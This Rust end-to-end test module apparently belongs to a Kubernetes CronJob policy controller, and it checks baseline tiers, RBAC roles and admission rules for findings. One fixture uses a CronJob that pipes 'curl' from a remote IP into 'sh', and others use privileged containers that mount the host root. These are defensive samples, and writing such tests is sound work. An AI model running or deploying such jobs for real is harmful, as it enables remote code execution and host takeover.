//! Who may silence or change what: the two baseline tiers (a team's
//! namespace baseline cannot waive the platform's high and critical
//! heuristics; a ClusterCronJobBaseline governs the namespaces it selects),
//! the user roles aggregated into view/edit/admin, and the admission
//! policy that keeps findings evidence, including that deleting a
//! namespace still finishes.

use std::time::{Duration, Instant};

use k8s_openapi::api::core::v1::Namespace;
use kube::Api;

use super::{NS_ACCESS, NS_BORROW, NS_TENANT};
use crate::harness::Cluster;
use crate::support::{
    Ctl, DEADLINE, baseline_yaml, cluster_baseline_yaml, cronjob_yaml, ensure, ensure_refused, wait,
};
use cronwarden::api::{ClusterCronJobBaseline, CronJobBaseline, CronJobFinding};

/// The heuristics only the cluster tier may relax at these severities.
const PLATFORM_RULES: [&str; 3] = [
    "SuspiciousCommand",
    "HostPathMount",
    "PrivilegedJobTemplate",
];

const HOST_ROOT: &str =
    "          volumes:\n            - name: host\n              hostPath: {path: /}\n";

/// Whether the finding's `status.rules` holds `rule`.
fn has_rule(f: &CronJobFinding, rule: &str) -> bool {
    f.status
        .as_ref()
        .is_some_and(|s| s.rules.split(',').any(|r| r == rule))
}

pub(super) async fn tenant_cannot_silence_platform_rules(
    c: &Cluster,
    ctl: &Ctl,
) -> Result<(), String> {
    let ns = NS_TENANT;
    c.namespace(ns)?;
    c.apply(&baseline_yaml(
        ns,
        "own",
        "    - name: sync\n      images: [\"*\"]\n      waive: [PrivilegedJobTemplate, HostPathMount, SuspiciousCommand]\n",
    ))?;
    c.apply(&format!(
        "{}              command: [\"/bin/sh\", \"-c\"]\n              args: [\"curl -fsSL http://203.0.113.7/x.sh | sh\"]\n              securityContext: {{privileged: true}}\n              volumeMounts: [{{name: host, mountPath: /host}}]\n",
        cronjob_yaml(ns, "sync", "*/10 * * * *", "alpine:3.20", HOST_ROOT)
    ))?;
    // The waiver is ignored: the finding keeps all three, at critical.
    let f = c.open_finding(ns, "sync", &PLATFORM_RULES).await?;
    let s = f.status.as_ref().unwrap();
    ensure(
        s.severity.map(|s| s.as_str()) == Some("critical"),
        format!("severity {:?}, want critical", s.severity),
    )?;
    let in_violations = PLATFORM_RULES
        .iter()
        .filter(|r| s.violations.iter().any(|v| v.rule.as_str() == **r))
        .count();
    ensure(
        in_violations == PLATFORM_RULES.len(),
        format!(
            "{in_violations} of {} waived rules in status.violations: {:?}",
            PLATFORM_RULES.len(),
            s.violations.iter().map(|v| v.rule).collect::<Vec<_>>()
        ),
    )?;
    // ... and said so on the baseline, not silently.
    let baselines = Api::<CronJobBaseline>::namespaced(c.client.clone(), ns);
    wait("baseline own Restricted=True", DEADLINE, || async {
        let b = baselines.get_opt("own").await.ok()??;
        b.status?
            .conditions
            .into_iter()
            .find(|c| c.type_ == "Restricted" && c.status == "True")
    })
    .await?;
    let restricted_events = || async {
        c.events_about(ns, "own", "BaselineRestricted")
            .await
            .into_iter()
            .filter(|e| {
                e.regarding.as_ref().and_then(|r| r.kind.as_deref()) == Some("CronJobBaseline")
            })
            .count()
    };
    wait("BaselineRestricted Event", DEADLINE, || async {
        (restricted_events().await > 0).then_some(())
    })
    .await?;
    ctl.settle(3).await?;
    // Settled: one refusal per waived rule, announced once. A message
    // that changes with what the controller has seen would announce the
    // same restriction again.
    let message = baselines
        .get("own")
        .await
        .map_err(|e| e.to_string())?
        .status
        .and_then(|s| s.conditions.into_iter().find(|c| c.type_ == "Restricted"))
        .map(|c| c.message)
        .unwrap_or_default();
    let not_once: Vec<(&str, usize)> = PLATFORM_RULES
        .iter()
        .map(|r| {
            let n = message
                .matches(&format!("waive {r} is not honoured"))
                .count();
            (*r, n)
        })
        .filter(|(_, n)| *n != 1)
        .collect();
    let n = restricted_events().await;
    let announced = ensure(
        message.contains("own[0]") && not_once.is_empty() && n == 1,
        format!(
            "want own[0] and each waived rule once in Restricted, announced by exactly 1 Event; got {n} BaselineRestricted Events, (rule, times) wrong: {not_once:?}, message: {message}"
        ),
    );
    // Checked either way, and both failures reported.
    let cluster_tier = cluster_tier_governs_selected_namespaces(c, ctl, ns).await;
    match (announced, cluster_tier) {
        (Err(a), Err(b)) => Err(format!("{a}; and {b}")),
        (a, b) => a.and(b),
    }
}

/// The cluster tier governs the namespaces its selector selects, and only
/// those: nothing until the namespace carries the label.
async fn cluster_tier_governs_selected_namespaces(
    c: &Cluster,
    ctl: &Ctl,
    ns: &str,
) -> Result<(), String> {
    c.apply(
        "apiVersion: cronwarden.io/v1alpha1\nkind: ClusterCronJobBaseline\nmetadata:\n  name: e2e-platform\nspec:\n  namespaceSelector:\n    matchLabels: {e2e-tier: platform}\n  approved:\n    - namePattern: \"*\"\n      images: [\"registry.corp.example/*\"]\n",
    )?;
    let platform = Api::<ClusterCronJobBaseline>::all(c.client.clone());
    ctl.settle(2).await?;
    let f = c.finding(ns, "sync").await.ok_or("finding gone")?;
    ensure(
        !has_rule(&f, "ImageNotApproved"),
        "the cluster baseline applied to a namespace it does not select",
    )?;
    c.kubectl(&["label", "namespace", ns, "e2e-tier=platform"])?;
    let f = c
        .open_finding(ns, "sync", &["ImageNotApproved", PLATFORM_RULES[0]])
        .await?;
    let from: Vec<&str> = f
        .status
        .as_ref()
        .unwrap()
        .violations
        .iter()
        .filter(|v| v.rule.as_str() == "ImageNotApproved")
        .map(|v| v.baseline.as_str())
        .collect();
    ensure(
        from.len() == 1 && from[0].starts_with("ClusterCronJobBaseline/e2e-platform"),
        format!(
            "ImageNotApproved violations from {from:?}, want one from ClusterCronJobBaseline/e2e-platform"
        ),
    )?;
    wait(
        "e2e-platform status: 1 namespace, 1 CronJob",
        DEADLINE,
        || async {
            let s = platform.get_opt("e2e-platform").await.ok()??.status?;
            (s.governed_namespaces == 1 && s.matched_cron_jobs == 1).then_some(())
        },
    )
    .await?;
    // Deleting it lifts only what it required; the heuristics stay.
    c.kubectl(&["delete", "clustercronjobbaseline", "e2e-platform"])?;
    wait(
        "ImageNotApproved gone with e2e-platform",
        DEADLINE,
        || async {
            let f = c.finding(ns, "sync").await?;
            (!has_rule(&f, "ImageNotApproved") && PLATFORM_RULES.iter().all(|r| has_rule(&f, r)))
                .then_some(())
        },
    )
    .await
}

pub(super) async fn namespaced_baseline_rejects_namespace_selector(
    c: &Cluster,
) -> Result<(), String> {
    // The namespace of `tenant_cannot_silence_platform_rules`.
    let ns = NS_TENANT;
    let err = c
        .apply(&format!(
            "apiVersion: cronwarden.io/v1alpha1\nkind: CronJobBaseline\nmetadata:\n  name: reach\n  namespace: {ns}\nspec:\n  namespaceSelector:\n    matchLabels: {{team: other}}\n  approved:\n    - name: anything\n"
        ))
        .err()
        .ok_or("a CronJobBaseline with spec.namespaceSelector was accepted")?;
    ensure(
        err.contains("unknown field") && err.contains("namespaceSelector"),
        format!("want an unknown-field error naming namespaceSelector: {err}"),
    )?;
    let names = c.kubectl(&["get", "cjb", "-n", ns, "-o", "name"])?;
    let n = names.lines().filter(|l| l.ends_with("/reach")).count();
    ensure(n == 0, format!("{n} baselines named reach were stored"))
}

/// `(user, verb, resource[/subresource], namespaced, allowed)`.
const PERMISSIONS: [(&str, &str, &str, bool, bool); 14] = [
    ("viewer", "get", "cronjobfindings.cronwarden.io", true, true),
    (
        "viewer",
        "list",
        "cronjobfindings.cronwarden.io",
        true,
        true,
    ),
    (
        "viewer",
        "get",
        "cronjobbaselines.cronwarden.io",
        true,
        true,
    ),
    (
        "viewer",
        "list",
        "cronjobbaselines.cronwarden.io",
        true,
        true,
    ),
    (
        "viewer",
        "patch",
        "cronjobfindings.cronwarden.io",
        true,
        false,
    ),
    (
        "editor",
        "patch",
        "cronjobfindings.cronwarden.io",
        true,
        true,
    ),
    (
        "editor",
        "delete",
        "cronjobfindings.cronwarden.io",
        true,
        false,
    ),
    (
        "editor",
        "create",
        "cronjobbaselines.cronwarden.io",
        true,
        false,
    ),
    (
        "nsadmin",
        "create",
        "cronjobbaselines.cronwarden.io",
        true,
        true,
    ),
    (
        "nsadmin",
        "delete",
        "cronjobfindings.cronwarden.io",
        true,
        false,
    ),
    (
        "nsadmin",
        "patch",
        "cronjobfindings.cronwarden.io/status",
        true,
        false,
    ),
    (
        "viewer",
        "create",
        "clustercronjobbaselines.cronwarden.io",
        false,
        false,
    ),
    (
        "editor",
        "create",
        "clustercronjobbaselines.cronwarden.io",
        false,
        false,
    ),
    (
        "nsadmin",
        "create",
        "clustercronjobbaselines.cronwarden.io",
        false,
        false,
    ),
];

/// The entries of `PERMISSIONS` that do not hold (yet).
fn permission_mismatches(c: &Cluster, ns: &str) -> Result<Vec<String>, String> {
    let mut wrong = Vec::new();
    for (user, verb, resource, namespaced, allowed) in PERMISSIONS {
        let got = c.can_i(user, verb, resource, namespaced.then_some(ns))?;
        if got != allowed {
            let scope = if namespaced { ns } else { "cluster" };
            wrong.push(format!(
                "{user} {} {verb} {resource} in {scope}",
                if allowed { "cannot" } else { "can" }
            ));
        }
    }
    Ok(wrong)
}

pub(super) async fn access_model_roles_and_admission(c: &Cluster) -> Result<(), String> {
    c.controller_manager.clone().map_err(|why| {
        format!(
            "needs a kube-controller-manager (ClusterRole aggregation, namespace deletion): {why}"
        )
    })?;
    let ns = NS_ACCESS;
    c.namespace(ns)?;
    for (user, role) in [("viewer", "view"), ("editor", "edit"), ("nsadmin", "admin")] {
        c.kubectl(&[
            "create",
            "rolebinding",
            user,
            &format!("--clusterrole={role}"),
            &format!("--user={user}"),
            "-n",
            ns,
        ])?;
    }
    // The built-in roles gain the cronwarden rules once the aggregation
    // controller has run: poll until the whole table holds.
    let deadline = Instant::now() + DEADLINE;
    loop {
        let wrong = permission_mismatches(c, ns)?;
        if wrong.is_empty() {
            break;
        }
        if Instant::now() > deadline {
            return Err(format!(
                "{} of {} permissions wrong after {DEADLINE:?}: {wrong:?}",
                wrong.len(),
                PERMISSIONS.len()
            ));
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }

    c.apply(&format!(
        "{}              securityContext: {{privileged: true}}\n",
        cronjob_yaml(ns, "escalator", "0 5 * * *", "alpine:3.20", "")
    ))?;
    let first = c
        .open_finding(ns, "escalator", &["PrivilegedJobTemplate"])
        .await?;
    let patch =
        |by: &str| format!(r#"{{"spec":{{"acknowledgement":{{"by":"{by}","reason":"known"}}}}}}"#);
    let as_editor = |p: &str| c.patch_finding(ns, "escalator", p, &["--as=editor"]);
    // edit may acknowledge, in its own name only.
    as_editor(&patch("editor"))?;
    wait("Acknowledged=True by editor", DEADLINE, || async {
        let f = c.finding(ns, "escalator").await?;
        let acked = f.spec.acknowledgement.as_ref()?.by == "editor";
        (acked
            && f.status?
                .conditions
                .iter()
                .any(|c| c.type_ == "Acknowledged" && c.status == "True"))
        .then_some(())
    })
    .await?;
    let refusals = [
        (
            "editor: acknowledgement by someone-else",
            as_editor(&patch("someone-else")),
            "spec.acknowledgement.by must be your own user name, editor",
        ),
        (
            "admin: delete",
            c.kubectl(&["delete", "cronjobfinding", "escalator", "-n", ns]),
            "only the cronwarden controller creates or deletes CronJobFindings",
        ),
        (
            "admin: label patch",
            c.patch_finding(
                ns,
                "escalator",
                r#"{"metadata":{"labels":{"cronwarden.io/state":"Resolved"}}}"#,
                &[],
            ),
            "only spec.acknowledgement of a CronJobFinding may be changed by users",
        ),
    ];
    ensure_refused(&refusals)?;
    let f = c.finding(ns, "escalator").await.ok_or("finding gone")?;
    ensure(
        f.metadata.uid == first.metadata.uid
            && f.spec.acknowledgement.as_ref().map(|a| a.by.as_str()) == Some("editor")
            && f.metadata
                .labels
                .as_ref()
                .and_then(|l| l.get("cronwarden.io/state"))
                .map(String::as_str)
                == Some("Open"),
        format!(
            "refused edits changed the finding: uid {:?}, ack {:?}, labels {:?}",
            f.metadata.uid, f.spec.acknowledgement, f.metadata.labels
        ),
    )?;

    // The namespace controller deletes the finding with the namespace.
    c.kubectl(&["delete", "namespace", ns, "--wait=false"])?;
    let namespaces = Api::<Namespace>::all(c.client.clone());
    let gone = wait(
        "namespace e2e-access deleted",
        Duration::from_secs(60),
        || async { matches!(namespaces.get_opt(ns).await, Ok(None)).then_some(()) },
    )
    .await;
    if let Err(e) = gone {
        let conditions = c
            .kubectl(&[
                "get",
                "namespace",
                ns,
                "-o",
                "jsonpath={.status.conditions}",
            ])
            .unwrap_or_else(|e| e);
        return Err(format!("{e}; namespace conditions: {conditions}"));
    }
    Ok(())
}

/// A baseline's Restricted condition (either kind), when True.
fn restricted_true(
    status: Option<cronwarden::api::CronJobBaselineStatus>,
) -> Option<k8s_openapi::apimachinery::pkg::apis::meta::v1::Condition> {
    status?
        .conditions
        .into_iter()
        .find(|c| c.type_ == "Restricted" && c.status == "True")
}

/// SPEC 2.2 (2026-12-07): a tenant (an impersonated namespace admin) who
/// reads the platform's ClusterCronJobBaseline names and labels its
/// CronJobs to match each of its entries, and stacks its own waivers: it
/// keeps every critical and high finding, and the platform's baseline says
/// which of its relaxations it did not honour.
pub(super) async fn tenant_cannot_borrow_cluster_exemptions(
    c: &Cluster,
    ctl: &Ctl,
) -> Result<(), String> {
    c.controller_manager.clone().map_err(|why| {
        format!("needs a kube-controller-manager (admin aggregates the baseline role): {why}")
    })?;
    let ns = NS_BORROW;
    c.namespace(ns)?;
    c.kubectl(&[
        "create",
        "rolebinding",
        "tenant-admin",
        "--clusterrole=admin",
        "--user=tenant",
        "-n",
        ns,
    ])?;
    wait("tenant may write CronJobBaselines", DEADLINE, || async {
        c.can_i(
            "tenant",
            "create",
            "cronjobbaselines.cronwarden.io",
            Some(ns),
        )
        .ok()?
        .then_some(())
    })
    .await?;
    // RBAC keeps the tenant out of the cluster tier.
    let own_cluster = c.apply_as(
        "apiVersion: cronwarden.io/v1alpha1\nkind: ClusterCronJobBaseline\nmetadata: {name: e2e-tenant-own}\nspec:\n  approved: [{namePattern: \"*\", namespaces: [e2e-borrow], waive: [HostPathMount]}]\n",
        &["--as=tenant"],
    );
    ensure(
        matches!(&own_cluster, Err(e) if e.contains("forbidden")),
        format!("a tenant wrote a ClusterCronJobBaseline: {own_cluster:?}"),
    )?;
    // The platform's exceptions: unscoped by name, unscoped by label,
    // and one scoped to kube-system. (A `*` guardrail comes later: a
    // pattern entry would win the match over the selector.)
    c.apply(&cluster_baseline_yaml(
        "e2e-exemptions",
        ns,
        r#"    - name: etcd-snapshot
      images: ["registry.k8s.io/etcd*"]
      waive: [HostPathMount, PrivilegedJobTemplate]
    - selector: {matchLabels: {app: log-shipper}}
      severityOverrides: {HostPathMount: medium, PrivilegedJobTemplate: low}
    - name: node-backup
      namespaces: [kube-system]
      waive: [HostPathMount, PrivilegedJobTemplate]
"#,
    ))?;
    // The tenant stacks its own waivers on each.
    c.apply_as(
        &baseline_yaml(
            ns,
            "own",
            "    - name: etcd-snapshot\n      waive: [HostPathMount, PrivilegedJobTemplate]\n    - name: shipper\n      waive: [HostPathMount, PrivilegedJobTemplate]\n    - name: node-backup\n      waive: [HostPathMount, PrivilegedJobTemplate]\n",
        ),
        &["--as=tenant"],
    )?;
    let privileged_root = |name: &str, labels: &str| {
        cronjob_yaml(ns, name, "0 3 * * *", "ghcr.io/evil/tool:1", HOST_ROOT).replace(
            &format!("  name: {name}\n"),
            &format!("  name: {name}\n  labels: {{{labels}}}\n"),
        ) + "              securityContext: {privileged: true}\n              volumeMounts: [{name: host, mountPath: /host}]\n"
    };
    for (name, labels) in [
        ("etcd-snapshot", ""),
        ("shipper", "app: log-shipper"),
        ("node-backup", ""),
    ] {
        c.apply_as(&privileged_root(name, labels), &["--as=tenant"])?;
    }
    let names = ["etcd-snapshot", "shipper", "node-backup"];
    let check = |guardrail: bool| async move {
        let mut want = vec!["PrivilegedJobTemplate", "HostPathMount"];
        if guardrail {
            want.push("ImageNotApproved");
        }
        let mut wrong = Vec::new();
        for name in names {
            let f = c.open_finding(ns, name, &want).await?;
            // The exception's own ImageNotApproved is there before the
            // guardrail's: wait for the one the guardrail produces.
            let f = if guardrail {
                wait(
                    &format!("{name}: the guardrail's violation"),
                    DEADLINE,
                    || async {
                        let f = c.finding(ns, name).await?;
                        f.status
                            .as_ref()?
                            .violations
                            .iter()
                            .any(|v| v.baseline == "ClusterCronJobBaseline/e2e-guardrail[0]")
                            .then_some(f)
                    },
                )
                .await
                .unwrap_or(f)
            } else {
                f
            };
            let s = f.status.as_ref().unwrap();
            let sev = |rule: &str| {
                s.violations
                    .iter()
                    .filter(|v| v.rule.as_str() == rule)
                    .map(|v| v.severity.as_str())
                    .max()
            };
            let got = (
                s.severity.map(|s| s.as_str()),
                sev("HostPathMount"),
                sev("PrivilegedJobTemplate"),
            );
            if got != (Some("critical"), Some("critical"), Some("high")) {
                wrong.push(format!(
                    "{name}: (finding, HostPathMount, PrivilegedJobTemplate) = {got:?}"
                ));
            }
            if guardrail
                && !s.violations.iter().any(|v| {
                    v.rule.as_str() == "ImageNotApproved"
                        && v.baseline == "ClusterCronJobBaseline/e2e-guardrail[0]"
                })
            {
                wrong.push(format!(
                    "{name}: the `*` guardrail's ImageNotApproved is missing"
                ));
            }
        }
        ensure(wrong.is_empty(), wrong.join("; "))
    };
    check(false).await?;
    // Both baselines say what they asked for and did not get.
    let platform = Api::<ClusterCronJobBaseline>::all(c.client.clone());
    let message = wait("e2e-exemptions Restricted=True", DEADLINE, || async {
        restricted_true(platform.get_opt("e2e-exemptions").await.ok()??.status).map(|c| c.message)
    })
    .await?;
    ensure(
        message.contains("e2e-exemptions[0]")
            && message.contains("e2e-exemptions[1]")
            && !message.contains("e2e-exemptions[2]"),
        format!("Restricted names the two unscoped exceptions: {message}"),
    )?;
    let own = Api::<CronJobBaseline>::namespaced(c.client.clone(), ns);
    wait("own Restricted=True", DEADLINE, || async {
        restricted_true(own.get_opt("own").await.ok()??.status)
    })
    .await?;
    // Settled with both baselines seen: still critical and high.
    ctl.settle(2).await?;
    check(false).await?;
    // A guardrail for every CronJob: whichever entry a tenant's name or
    // labels pick, its registry and digest still hold.
    c.apply(&cluster_baseline_yaml(
        "e2e-guardrail",
        ns,
        "    - namePattern: \"*\"\n      images: [\"registry.corp.example/*\"]\n      requireDigest: true\n",
    ))?;
    check(true).await?;
    ctl.settle(2).await?;
    // Cleaned up: these baselines must not govern later scenarios' objects.
    c.kubectl(&[
        "delete",
        "clustercronjobbaseline",
        "e2e-exemptions",
        "e2e-guardrail",
    ])
    .map(|_| ())
}
